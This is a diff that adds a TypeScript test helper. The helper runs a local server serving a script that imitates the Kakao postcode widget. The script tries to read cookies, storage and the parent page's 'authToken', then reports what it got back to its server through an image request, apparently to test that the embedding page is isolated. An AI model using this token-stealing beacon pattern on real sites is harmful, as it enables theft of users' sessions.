@@ -1,0 +1,73 @@
+import { createServer } from 'node:http'
+import type { AddressInfo } from 'node:net'
+
+/** What the script saw of the world around it. */
+export interface Sight {
+  origin: string
+  ownStorage: string
+  ownCookies: string
+  siteStorage: string
+  siteDocument: string
+}
+
+export interface PostcodeScript {
+  readonly url: string
+  /** One for each time the script was run. */
+  readonly sights: readonly Sight[]
+  close(): Promise<void>
+}
+
+export const FOUND = { zonecode: '06236', roadAddress: '서울 강남구 테헤란로 152' }
+
+/**
+ * Speaks like the look-up service's own script, and tells its own server what a script in its place could get hold of.
+ * A picture carries the news, since the page lets it connect to nothing.
+ */
+const SCRIPT = `(() => {
+  const home = new URL(document.currentScript.src).origin
+  const look = (get) => { try { return 'got ' + String(get()) } catch (error) { return error.name } }
+  const sight = {
+    origin: self.origin,
+    ownStorage: look(() => localStorage.length),
+    ownCookies: look(() => document.cookie),
+    siteStorage: look(() => parent.localStorage.getItem('authToken')),
+    siteDocument: look(() => parent.document.title),
+  }
+  new Image().src = home + '/sight?' + new URLSearchParams(sight)
+  window.kakao = {
+    Postcode: class {
+      constructor(options) { this.options = options }
+      embed(element) {
+        const button = document.createElement('button')
+        button.textContent = '${FOUND.roadAddress}'
+        button.onclick = () => this.options.oncomplete({
+          ...${JSON.stringify(FOUND)}, address: '', jibunAddress: '', buildingName: '',
+        })
+        element.append(button)
+      }
+    },
+  }
+})()`
+
+export async function startPostcodeScript(): Promise<PostcodeScript> {
+  const sights: Sight[] = []
+  const server = createServer((request, response) => {
+    const { pathname, searchParams } = new URL(request.url ?? '/', 'http://localhost')
+    if (pathname === '/postcode.js') {
+      response.writeHead(200, { 'content-type': 'text/javascript; charset=utf-8' }).end(SCRIPT)
+      return
+    }
+    if (pathname === '/sight') sights.push(Object.fromEntries(searchParams) as unknown as Sight)
+    response.writeHead(204).end()
+  })
+  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
+  return {
+    url: `http://127.0.0.1:${(server.address() as AddressInfo).port}/postcode.js`,
+    sights,
+    close: () =>
+      new Promise((resolve) => {
+        server.close(() => resolve())
+        server.closeAllConnections()
+      }),
+  }
+}
